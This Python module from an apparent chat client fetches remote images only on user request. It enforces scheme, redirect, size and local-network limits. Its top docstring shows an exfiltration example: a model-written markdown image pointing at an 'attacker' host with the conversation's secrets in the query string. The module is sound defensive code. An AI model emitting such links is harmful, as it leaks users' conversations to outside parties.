"""Remote images fetched on request (recognising and measuring them: `image_sizes.py`).

Rendering never fetches anything (a model-written `![](https://attacker/?q=<secrets>)` would
otherwise leak the conversation the moment it is shown). The UI calls `fetch_image` only after
the user asked to load a message's images, and hands the bytes back to the renderer.
"""

from __future__ import annotations

import http.client
import ssl
import time
import urllib.error
import urllib.parse
import urllib.request
from urllib.parse import urlsplit

from chatdesk.core.errors import ChatdeskError
from chatdesk.core.i18n import ntr, tr
from chatdesk.core.render.image_sizes import MAX_BYTES, image_info
from chatdesk.core.secrets import is_local_host
from chatdesk.core.trust.links import classify_link

_CHUNK = 64 * 1024
_WEB = ("http", "https")


class ImageFetchFailed(ChatdeskError):
    """A remote image could not be loaded; the message says why."""


def fetch_image(
    url: str,
    *,
    max_bytes: int = MAX_BYTES,
    timeout: float = 10.0,
    allow_local_hosts: bool = False,
) -> bytes:
    """The bytes of the PNG, JPEG or GIF at an http(s) `url`. Blocking: call it off the GUI
    thread. No cookies, no Referer; at most 3 redirects, never to another scheme than http(s)
    and never from https down to http. Raises `ImageFetchFailed` on anything wrong.

    Addresses on this computer or the local network are refused, redirects included: the
    address comes from model output, and a GET to a router or a local service can change
    its state. (Decided by name; see `is_local_host`.)"""
    target = classify_link(url)
    if target.kind != "external" or urlsplit(target.url).scheme.lower() not in _WEB:
        raise ImageFetchFailed(
            tr("Images load only from http or https addresses, not {url}.", url=repr(url))
        )
    _check_host(url, allow_local_hosts)
    request = urllib.request.Request(url, headers=_HEADERS)
    try:
        with _opener(allow_local_hosts).open(request, timeout=timeout) as response:
            data = _read_capped(response, max_bytes, time.monotonic() + timeout)
    except ImageFetchFailed:
        raise
    except urllib.error.HTTPError as error:
        error.close()
        raise ImageFetchFailed(_http_error_message(error, target.host)) from None
    except (OSError, http.client.HTTPException, ValueError) as error:
        raise ImageFetchFailed(
            tr("Could not load the image from {host}: {error}.", host=target.host, error=error)
        ) from None
    if image_info(data) is None:
        raise ImageFetchFailed(
            tr("What {host} sent is not a PNG, JPEG or GIF image.", host=target.host)
        )
    return data


def _http_error_message(error: urllib.error.HTTPError, host: str | None) -> str:
    if 300 <= error.code < 400:  # urllib refused the redirect (another scheme, or a loop)
        location = error.headers.get("Location", "")
        return tr("The image address redirects to {url}; not followed.", url=repr(location))
    return tr("{host} answered {code} for the image.", host=host, code=error.code)


_HEADERS = {"User-Agent": "chatdesk", "Accept": "image/png, image/jpeg, image/gif"}


def _read_capped(response: http.client.HTTPResponse, max_bytes: int, deadline: float) -> bytes:
    declared = response.headers.get("Content-Length", "")
    if declared.isdigit() and int(declared) > max_bytes:
        raise ImageFetchFailed(
            ntr(
                "The image is larger than {n} byte.",
                "The image is larger than {n} bytes.",
                max_bytes,
            )
        )
    chunks: list[bytes] = []
    received = 0
    while chunk := response.read(_CHUNK):
        received += len(chunk)
        if received > max_bytes:
            raise ImageFetchFailed(
                ntr(
                    "The image is larger than {n} byte.",
                    "The image is larger than {n} bytes.",
                    max_bytes,
                )
            )
        if time.monotonic() > deadline:
            raise ImageFetchFailed(tr("The image took too long to load."))
        chunks.append(chunk)
    return b"".join(chunks)


def _check_host(url: str, allow_local_hosts: bool) -> None:
    host = urlsplit(url).hostname or ""
    if not allow_local_hosts and is_local_host(host):
        raise ImageFetchFailed(
            tr(
                "Images from this computer or the local network ({host}) are not "
                "loaded: a message could use them to send requests to devices on "
                "your network.",
                host=host,
            )
        )


class _WebRedirectsOnly(urllib.request.HTTPRedirectHandler):
    max_redirections = 3

    def __init__(self, allow_local_hosts: bool) -> None:
        super().__init__()
        self._allow_local_hosts = allow_local_hosts

    def redirect_request(
        self,
        req: urllib.request.Request,
        fp: object,
        code: int,
        msg: str,
        headers: http.client.HTTPMessage,
        newurl: str,
    ) -> urllib.request.Request | None:
        old, new = urlsplit(req.full_url).scheme.lower(), urlsplit(newurl).scheme.lower()
        if new not in _WEB or (old, new) == ("https", "http"):
            if isinstance(fp, http.client.HTTPResponse):
                fp.close()  # urllib closes it only when it follows the redirect
            raise ImageFetchFailed(
                tr("The image address redirects to {url}; not followed.", url=repr(newurl))
            )
        try:
            _check_host(urllib.parse.urljoin(req.full_url, newurl), self._allow_local_hosts)
        except ImageFetchFailed:
            if isinstance(fp, http.client.HTTPResponse):
                fp.close()
            raise
        return super().redirect_request(req, fp, code, msg, headers, newurl)  # type: ignore[arg-type]


def _opener(allow_local_hosts: bool) -> urllib.request.OpenerDirector:
    """Only what an image fetch needs: no file:, ftp: or data: handlers, no cookie jar."""
    opener = urllib.request.OpenerDirector()
    for handler in (
        urllib.request.ProxyHandler(),
        urllib.request.HTTPHandler(),
        urllib.request.HTTPSHandler(context=ssl.create_default_context()),
        _WebRedirectsOnly(allow_local_hosts),
        urllib.request.HTTPDefaultErrorHandler(),
        urllib.request.HTTPErrorProcessor(),
    ):
        opener.add_handler(handler)
    return opener
